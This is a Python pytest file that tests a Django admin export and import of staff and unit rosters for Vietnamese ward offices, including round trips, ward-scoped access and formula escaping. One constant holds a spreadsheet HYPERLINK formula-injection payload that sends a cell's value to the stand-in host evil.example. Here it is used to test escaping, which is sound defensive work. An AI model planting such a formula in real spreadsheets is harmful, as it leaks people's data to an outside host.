"""Roster export from the admin: the import's headers, files that import back unchanged,
formula cells escaped, and the administrator's scope."""

import io

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories.roster import (
    PERSON_HEADERS,
    UNIT_HEADERS,
    confirm,
    post_import,
    read_csv,
    read_xlsx,
)
from tests.factories.units import (
    HeadFactory,
    PersonFactory,
    UnitFactory,
    UserFactory,
    make_administrator,
    ward_office,
)
from units.models import Category, Person, Unit

pytestmark = pytest.mark.django_db

XLSX, CSV = "0", "1"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
PERSON_VALUES = (
    "staff_code",
    "full_name",
    "date_of_birth",
    "email",
    "unit_id",
    "position_title",
    "category",
    "is_unit_head",
    "is_active",
)
UNIT_VALUES = ("code", "name", "kind", "block", "school_level", "parent_id", "sort_order", "path")


@pytest.fixture
def office():
    return ward_office("BODE", ward_name="Phường Bồ Đề", name="UBND phường Bồ Đề")


@pytest.fixture
def ward(office):
    return office.parent


@pytest.fixture
def other_office():
    return ward_office("GIATHUY", ward_name="Phường Gia Thụy")


@pytest.fixture
def roster(office):
    """A head and two staff members, one with a birth date and one inactive."""
    import datetime

    HeadFactory(staff_code="CB00001", full_name="Phạm Văn Trưởng", unit=office, email="")
    PersonFactory(
        staff_code="CB00002",
        full_name="Nguyễn Thị Hoa",
        unit=office,
        date_of_birth=datetime.date(1990, 1, 31),
        email="hoa@example.vn",
    )
    PersonFactory(staff_code="CB00003", unit=office, is_active=False, position_title="")


def export(client, model="person", file_format=XLSX):
    return client.post(
        reverse(f"admin:units_{model}_export"), {"format": file_format, "resource": "0"}
    )


def snapshot(model, fields):
    return sorted(model.objects.values_list(*fields))


def test_people_export_has_the_import_headers_and_readable_values(admin_client, roster):
    response = export(admin_client)

    rows = read_xlsx(response.content)
    assert rows[0] == PERSON_HEADERS
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["CB00001"][6:8] == ["Lãnh đạo, quản lý", "Có"]
    assert by_code["CB00002"][2:5] == ["31/01/1990", "hoa@example.vn", "BODE-UBND"]
    assert by_code["CB00003"][8] == "Không"


def test_people_csv_export_has_the_import_headers(admin_client, roster):
    response = export(admin_client, file_format=CSV)

    rows = read_csv(response.content)
    assert rows[0] == PERSON_HEADERS
    assert len(rows) == 4


@pytest.mark.parametrize(("file_format", "name"), [(XLSX, "can-bo.xlsx"), (CSV, "can-bo.csv")])
def test_exported_people_file_imports_back_unchanged(admin_client, roster, file_format, name):
    before = snapshot(Person, PERSON_VALUES)
    content = export(admin_client, file_format=file_format).content

    preview = post_import(admin_client, SimpleUploadedFile(name, content))
    assert preview.context["result"].totals["new"] == 0
    response = confirm(admin_client, preview)

    assert response.status_code == 302
    assert snapshot(Person, PERSON_VALUES) == before


@pytest.mark.parametrize(("file_format", "name"), [(XLSX, "don-vi.xlsx"), (CSV, "don-vi.csv")])
def test_exported_units_file_imports_back_unchanged(admin_client, office, file_format, name):
    UnitFactory(code="BODE-MN", kind="school", school_level="kindergarten", parent=office.parent)
    before = snapshot(Unit, UNIT_VALUES)
    content = export(admin_client, model="unit", file_format=file_format).content

    preview = post_import(admin_client, SimpleUploadedFile(name, content), model="unit")
    response = confirm(admin_client, preview, model="unit")

    assert response.status_code == 302
    assert snapshot(Unit, UNIT_VALUES) == before


def test_units_export_has_the_import_headers_parents_first(admin_client, office):
    rows = read_xlsx(export(admin_client, model="unit").content)

    assert rows[0] == UNIT_HEADERS
    assert [(row[0], row[5]) for row in rows[1:]] == [
        ("LB", None),  # an empty cell
        ("BODE", "LB"),
        ("BODE-UBND", "BODE"),
    ]


def test_formula_in_a_name_is_escaped_in_the_xlsx_export(admin_client, office):
    PersonFactory(staff_code="CB00009", full_name=FORMULA, unit=office)

    response = export(admin_client)

    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet["B2"]
    assert cell.data_type == "s"  # text, not a formula
    assert cell.value == "'" + FORMULA


def test_formula_in_a_name_is_escaped_in_the_csv_export(admin_client, office):
    PersonFactory(staff_code="CB00009", full_name=FORMULA, unit=office)

    response = export(admin_client, file_format=CSV)

    assert read_csv(response.content)[1][1] == "'" + FORMULA


def test_escaped_formula_imports_back_as_the_original_text(admin_client, office):
    PersonFactory(staff_code="CB00009", full_name=FORMULA, unit=office)
    content = export(admin_client).content

    confirm(admin_client, post_import(admin_client, SimpleUploadedFile("a.xlsx", content)))

    assert Person.objects.get().full_name == FORMULA


def test_ward_administrator_exports_only_the_people_of_their_ward(
    client, ward, office, other_office
):
    PersonFactory(staff_code="CB00001", unit=office)
    PersonFactory(staff_code="CB00002", unit=other_office)
    client.force_login(make_administrator(ward))

    rows = read_xlsx(export(client).content)

    assert [row[0] for row in rows[1:]] == ["CB00001"]


def test_ward_administrator_exports_only_the_units_of_their_ward(
    client, ward, office, other_office
):
    client.force_login(make_administrator(ward))

    rows = read_xlsx(export(client, model="unit").content)

    assert [row[0] for row in rows[1:]] == ["BODE", "BODE-UBND"]


def test_ward_administrator_imports_their_unit_export_back(client, ward, office):
    client.force_login(make_administrator(ward))
    content = export(client, model="unit").content

    preview = post_import(client, SimpleUploadedFile("u.xlsx", content), model="unit")

    assert "confirm_form" in preview.context


def test_export_is_forbidden_without_the_export_permission(client, office):
    user = UserFactory(is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_person"))
    client.force_login(user)

    assert export(client).status_code == 403


def test_export_offers_only_xlsx_and_csv(admin_client):
    response = admin_client.get(reverse("admin:units_person_export"))

    choices = [label for value, label in response.context["form"].fields["format"].choices if value]
    assert choices == ["xlsx", "csv"]


def test_export_keeps_the_category_of_a_leader_who_is_not_head(admin_client, office):
    PersonFactory(staff_code="CB00001", unit=office, category=Category.LEADER)

    rows = read_xlsx(export(admin_client).content)

    assert rows[1][6:8] == ["Lãnh đạo, quản lý", "Không"]
